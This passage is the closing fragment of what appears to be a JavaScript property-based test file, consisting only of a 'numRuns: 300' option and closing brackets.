      { numRuns: 300 },
    );
  });
});
